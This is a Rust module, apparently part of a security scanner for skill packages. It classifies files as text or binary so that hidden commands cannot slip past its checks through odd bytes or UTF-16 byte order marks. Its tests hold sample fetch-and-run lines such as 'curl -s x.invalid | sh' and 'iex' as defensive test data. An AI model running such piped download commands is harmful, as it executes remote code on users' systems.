//! [`Reading`]: the text of a file, and whether the file is text or binary.
//!
//! A file is text if it is valid UTF-8, or valid UTF-16 with a byte order mark. A file that is read or run by its name
//! or first line is text whatever its bytes, so that one invalid byte cannot disable the checks. All other files are
//! binary, and only runs long enough to be text are searched.

use std::borrow::Cow;

use memchr::memmem;
use skill::{File, SkillPath};

/// Minimum length in characters of a text run in a binary file. A run of random bytes reaches it about once in eight
/// megabytes.
const BINARY_RUN: usize = 16;

/// Minimum length of a text run among the bytes of declared UTF-16, in which ASCII letters are separated by zeros.
const WIDE_RUN: usize = 4;

/// Maximum share of non-text bytes, as one in this many, for a file that is read in full.
const ODD_SHARE: usize = 10;

/// Text content of a file.
pub(crate) struct Reading<'a> {
    /// Whole content of a text file. In a binary file, bytes outside of text runs are replaced by zeros.
    pub text: Cow<'a, str>,
    /// True if neither the bytes nor the name indicate text.
    pub binary: bool,
}

/// Names of files that a tool executes, such as build files.
const NAMED: &[&str] = &[
    "makefile", "justfile", "dockerfile", "gemfile", "rakefile", "vagrantfile", "podfile", "fastfile", "brewfile",
    "guardfile", "jenkinsfile", "sconstruct", "containerfile",
];

const SCRIPTS: &[&str] = &[
    "sh", "bash", "zsh", "fish", "ksh", "csh", "command", "py", "pyw", "js", "mjs", "cjs", "ts", "mts", "cts", "jsx",
    "tsx", "rb", "pl", "pm", "php", "lua", "go", "rs", "ps1", "psm1", "bat", "cmd", "vbs", "wsf", "hta", "applescript",
    "scpt", "awk", "r", "jl", "groovy", "gradle", "java", "kts", "c", "cc", "cpp", "kt", "cs", "scala", "dart", "ex",
    "exs", "swift", "mk",
];

/// Extensions of files made for people to read. An empty one, for files without an extension, is included.
const PROSE: &[&str] = &["md", "markdown", "mdx", "txt", "rst", "adoc", "org", ""];

/// Extensions of configuration, data, markup and source code, which are always text.
const TEXTS: &[&str] = &[
    "json", "jsonc", "json5", "jsonl", "ndjson", "yaml", "yml", "toml", "ini", "cfg", "conf", "config", "env",
    "properties", "plist", "xml", "xsd", "xsl", "html", "htm", "xhtml", "svg", "css", "scss", "less", "csv", "tsv",
    "sql", "tex", "bib", "log", "diff", "patch", "tmpl", "tpl", "template", "j2", "jinja", "hbs", "vue", "svelte",
    "graphql", "proto", "tf", "hcl", "gradle", "cmake", "h", "hpp", "erl", "hs", "clj", "el", "lisp", "nix", "ipynb",
    "service", "desktop", "reg", "rules", "prompt",
];

/// Returns whether the name of a file alone means that it is run.
pub(crate) fn is_script(path: &SkillPath) -> bool {
    let name = path.file_name().to_ascii_lowercase();
    SCRIPTS.contains(&path.extension().as_str()) || NAMED.contains(&name.as_str())
}

/// Returns whether files with an extension are made for people to read.
pub(crate) fn is_to_read(extension: &str) -> bool {
    PROSE.contains(&extension)
}

/// Returns whether a file is inside a folder for scripts.
pub(crate) fn is_in_scripts(path: &SkillPath) -> bool {
    path.segments().any(|segment| segment.eq_ignore_ascii_case("scripts"))
}

/// Reads a file as text or, for a binary file, its text runs.
pub(crate) fn read<'a>(path: &SkillPath, file: &'a File) -> Reading<'a> {
    let bytes = &file.bytes;
    let named = is_named_text(path, file);
    if let Some((wide, valid)) = read_wide(bytes) {
        let run = if named { WIDE_RUN } else { BINARY_RUN };
        return Reading { text: Cow::Owned(with_narrow(wide, bytes, run)), binary: !named && !valid };
    }
    match std::str::from_utf8(bytes) {
        Ok(text) => Reading { text: with_plain_ends(text), binary: false },
        Err(_) if named => Reading { text: String::from_utf8_lossy(bytes), binary: false },
        Err(_) if is_mostly_text(bytes) => {
            Reading { text: String::from_utf8_lossy(bytes), binary: !path.extension().is_empty() }
        }
        Err(_) => Reading { text: Cow::Owned(runs(bytes, BINARY_RUN)), binary: true },
    }
}

/// Converts line ends to Unix form, so that they do not affect matches.
fn with_plain_ends(text: &str) -> Cow<'_, str> {
    match memmem::find(text.as_bytes(), b"\r\n") {
        Some(_) => Cow::Owned(text.replace("\r\n", "\n")),
        None => Cow::Borrowed(text),
    }
}

/// Returns whether the name, location or first bytes of a file indicate text. A missing extension does so only for
/// files that are run.
fn is_named_text(path: &SkillPath, file: &File) -> bool {
    let extension = path.extension();
    let known = if extension.is_empty() {
        file.executable || is_in_scripts(path)
    } else {
        is_to_read(&extension) || TEXTS.contains(&extension.as_str())
    };
    known || is_script(path) || file.bytes.starts_with(b"#!")
}

/// Decodes UTF-16 after a byte order mark, and returns whether all of it is valid. Returns `None` without the mark.
fn read_wide(bytes: &[u8]) -> Option<(String, bool)> {
    let (rest, little) = match bytes {
        [0xFF, 0xFE, rest @ ..] => (rest, true),
        [0xFE, 0xFF, rest @ ..] => (rest, false),
        _ => return None,
    };
    let unit = |pair| if little { u16::from_le_bytes(pair) } else { u16::from_be_bytes(pair) };
    let units: Vec<u16> = rest.chunks_exact(2).filter_map(|pair| pair.try_into().ok()).map(unit).collect();
    let valid = rest.len() % 2 == 0 && char::decode_utf16(units.iter().copied()).all(|c| c.is_ok());
    Some((String::from_utf16_lossy(&units), valid))
}

/// Appends the text runs of the raw bytes to decoded UTF-16. A program that ignores the byte order mark sees these: a
/// shell runs plain commands after one.
fn with_narrow(mut wide: String, bytes: &[u8], run: usize) -> String {
    let narrow = runs(bytes, run);
    if narrow.bytes().any(|byte| byte.is_ascii_graphic()) {
        wide.push('\n');
        wide.push_str(&narrow);
    }
    wide
}

/// Returns whether only few bytes are not text, as in a file with an old encoding and an unknown name.
fn is_mostly_text(bytes: &[u8]) -> bool {
    let odd = |valid: &str| valid.chars().filter(|c| is_break(*c)).count();
    let odd: usize = bytes.utf8_chunks().map(|chunk| odd(chunk.valid()) + chunk.invalid().len()).sum();
    odd * ODD_SHARE <= bytes.len()
}

/// Returns the text runs at their original offsets. Line ends are kept and all other bytes become zero.
fn runs(bytes: &[u8], shortest: usize) -> String {
    let mut text = Vec::with_capacity(bytes.len());
    for chunk in bytes.utf8_chunks() {
        for piece in chunk.valid().split_inclusive(is_break) {
            let run = piece.trim_end_matches(is_break);
            if is_text(run, shortest) {
                text.extend_from_slice(run.as_bytes());
            } else {
                text.extend(run.bytes().map(|byte| if byte == b'\n' { b'\n' } else { 0 }));
            }
            text.resize(text.len() + piece.len() - run.len(), 0);
        }
        text.resize(text.len() + chunk.invalid().len(), 0);
    }
    String::from_utf8(text).unwrap_or_default()
}

/// Returns whether a character ends a text run.
fn is_break(c: char) -> bool {
    c.is_control() && !matches!(c, '\n' | '\r' | '\t')
}

/// Returns whether a run has the minimum length and consists at least half of letters, digits and white space.
fn is_text(run: &str, shortest: usize) -> bool {
    if run.len() < shortest {
        return false;
    }
    let plain = run.chars().filter(|c| c.is_alphanumeric() || c.is_whitespace()).count();
    let all = run.chars().count();
    all >= shortest && plain * 2 >= all
}

#[cfg(test)]
mod tests {
    use super::*;

    fn read_at(path: &str, bytes: &[u8]) -> (String, bool) {
        let file = File { bytes: bytes.into(), executable: false };
        let reading = read(&SkillPath::parse(path).unwrap(), &file);
        (reading.text.into_owned(), reading.binary)
    }

    fn wide(text: &str) -> Vec<u8> {
        [0xFF, 0xFE].into_iter().chain(text.encode_utf16().flat_map(u16::to_le_bytes)).collect()
    }

    #[test]
    fn text_extension_overrides_bytes() {
        let bytes = [&[0x80; 40][..], b"x | sh"].concat();
        for path in ["a.py", "SKILL.md", "a.json", "scripts/run", "Makefile"] {
            let (text, binary) = read_at(path, &bytes);
            assert!(text.ends_with("x | sh") && !binary, "{path}");
        }
        for path in ["a.bin", "assets/run", "scripts/a.png"] {
            assert_eq!(read_at(path, &bytes), ("\0".repeat(46), true), "{path}");
        }
        let shebang = [b"#!/bin/sh\n", &bytes[..]].concat();
        assert!(!read_at("a.bin", &shebang).1);
    }

    #[test]
    fn line_ends_of_windows_are_plain() {
        assert_eq!(read_at("a.sh", b"curl x \\\r\n  | sh\r\n\rend"), ("curl x \\\n  | sh\n\rend".to_owned(), false));
    }

    #[test]
    fn runs_of_text_stay_where_they_are() {
        let bytes =
            b"\xFF\xFF\xFFshort\n\x01\xFFlong enough to be text\n2\x00\xC2\x85\x80\x80\x80\x80((((((((((((((((((((";
        let text = runs(bytes, BINARY_RUN);
        assert_eq!(text.len(), bytes.len());
        assert_eq!(text.trim_matches('\0'), "\n\0\0long enough to be text\n2");
        assert_eq!(text.matches('\n').count(), 2);
    }

    #[test]
    fn a_few_bad_bytes_leave_a_text_whole() {
        let latin = b"caf\xE9 au lait\nrm x\n";
        assert_eq!(read_at("notes.dat", latin), ("caf\u{FFFD} au lait\nrm x\n".to_owned(), true));
    }

    #[test]
    fn wide_text_is_read_by_its_byte_order_mark() {
        assert_eq!(read_at("a.ps1", &wide("iex")), ("iex".to_owned(), false));
        assert_eq!(read_at("a.bin", &wide("iex")), ("iex".to_owned(), false));
        let lone = [wide("iex"), vec![0, 0xD8]].concat();
        assert_eq!(read_at("a.bin", &lone), ("iex\u{FFFD}".to_owned(), true));
    }

    #[test]
    fn a_byte_order_mark_hides_no_plain_text() {
        let (text, _) = read_at("a.sh", b"\xFF\xFE\ncurl x|sh\n");
        assert!(text.contains("\ncurl x|sh\n"), "{text:?}");
        let (text, _) = read_at("a.bin", b"\xFF\xFE\ncurl -s x.invalid | sh\n");
        assert!(text.contains("\ncurl -s x.invalid | sh\n"), "{text:?}");
    }
}
